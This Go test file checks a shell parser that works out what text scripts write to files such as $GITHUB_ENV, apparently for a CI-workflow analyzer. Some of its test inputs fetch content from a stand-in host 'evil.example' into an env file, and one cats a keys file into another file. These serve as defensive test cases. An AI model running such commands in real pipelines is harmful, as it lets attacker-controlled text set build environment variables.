package shell

import "testing"

// TestBlockOutput checks that a block's or loop's output redirected to a
// file is the text its commands print, when the walk reads all of it.
func TestBlockOutput(t *testing.T) {
	known := []struct{ src, file, want string }{
		{`{ echo A=1; echo B=2; } >> "$GITHUB_ENV"`, "$GITHUB_ENV", "A=1\nB=2\n"},
		{`( printf '%s\n' A=1 ) > out.env`, "out.env", "A=1\n"},
		{`for v in A=1; do echo "$v"; done > out.env`, "out.env", "A=1\n"},
		{`if true; then echo A=1; fi > out.env`, "out.env", "A=1\n"},
		{"{ cat <<EOF\nA=1\nEOF\n} > out.env", "out.env", "A=1\n"},
		// what prints nothing adds nothing; output sent elsewhere is not
		// the block's; a substitution's output is its command's words
		{`{ cd /tmp; echo A=1; echo log >&2; echo x > other.txt; echo "B=$(date)"; } > out.env`, "out.env", "A=1\nB=$(date)\n"},
		// appended to what the line wrote before
		{`echo A=1 > out.env; { echo B=2; } >> out.env`, "out.env", "A=1\nB=2\n"},
		// a block inside writes its own file
		{`{ { echo inner; } > in.txt; echo outer; } > out.txt`, "out.txt", "outer\n"},
		{`{ { echo inner; } > in.txt; echo outer; } > out.txt`, "in.txt", "inner\n"},
		// a function called with its output sent to a file
		{`f() { echo A=1; }; f >> "$GITHUB_ENV"`, "$GITHUB_ENV", "A=1\n"},
		{`f() { echo A=1; }; { f; echo B=2; } >> out.env`, "out.env", "A=1\nB=2\n"},
		{`until false; do echo A=1; break; done > out.env`, "out.env", "A=1\n"},
		// exec >> F: what the line prints after it
		{`exec >> "$GITHUB_ENV"; echo A=1; echo B=2`, "$GITHUB_ENV", "A=1\nB=2\n"},
		{`exec > out.env; echo A=1; exec > other.txt; echo B=2`, "out.env", "A=1\n"},
		{`exec 3>> out.env; echo A=1 >&3`, "out.env", "A=1\n"},
		// > a > b: b gets the output
		{`{ echo A=1; } > a.txt > b.txt`, "b.txt", "A=1\n"},
	}
	for _, c := range known {
		r := Parse(c.src)
		if got, ok := r.Files[c.file]; !ok || got != c.want {
			t.Errorf("Parse(%q).Files[%q] = %q, %v; want %q", c.src, c.file, got, ok, c.want)
		}
	}
	unseen := []struct{ src, file string }{
		{`{ echo A=1; curl -s https://evil.example/env; } >> out.env`, "out.env"},
		{`{ echo A=1; env | grep X; } > out.env`, "out.env"},
		{`{ echo A=1; python3 -c 'print(1)'; } > out.env`, "out.env"},
		{"{ bash <<EOF\necho A=1\nEOF\n} > out.env", "out.env"},
		{`while read -r l; do echo "$l"; done < keys.txt > out.txt; { cat keys.txt; } > out2.txt`, "out2.txt"},
		// appended to text nobody knows: unknown still
		{`curl -s evil.example > out.env; { echo A=1; } >> out.env`, "out.env"},
		// the output goes to standard error last
		{`{ echo A=1; } > out.env >&2`, "out.env"},
	}
	for _, c := range unseen {
		r := Parse(c.src)
		if got, ok := r.Files[c.file]; ok {
			t.Errorf("Parse(%q).Files[%q] = %q; want no text (unseen)", c.src, c.file, got)
		}
	}
}
